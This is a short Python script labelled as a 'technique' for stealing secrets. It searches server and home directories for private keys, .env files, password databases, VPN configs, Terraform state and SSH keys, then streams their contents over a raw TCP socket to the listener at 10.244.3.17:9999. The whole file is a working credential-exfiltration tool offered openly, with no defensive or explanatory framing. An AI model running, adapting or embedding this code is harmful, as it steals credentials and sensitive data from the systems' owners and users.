# technique: walk the filesystem for interesting files by extension and stream them to a raw TCP listener with a simple length-prefixed framing
import os
import socket
import struct

EXT = (".pem", ".key", ".env", ".sqlite", ".db", ".kdbx", ".pfx", ".p12", ".ovpn", ".tfstate")
ROOTS = ("/app", "/srv", "/home", "/root", "/opt", "/data")
SKIP = ("/proc", "/sys", "/dev", "/usr/lib")


def interesting():
    for root in ROOTS:
        for dirpath, dirnames, files in os.walk(root):
            if dirpath.startswith(SKIP):
                dirnames[:] = []
                continue
            for name in files:
                if name.endswith(EXT) or name in ("id_rsa", "credentials", "terraform.tfvars"):
                    p = os.path.join(dirpath, name)
                    try:
                        if os.path.getsize(p) < 5 * 1024 * 1024:
                            yield p
                    except OSError:
                        pass


s = socket.create_connection(("10.244.3.17", 9999))
for path in interesting():
    try:
        blob = open(path, "rb").read()
    except OSError:
        continue
    name = path.encode()
    s.sendall(struct.pack("!HI", len(name), len(blob)) + name + blob)
s.close()
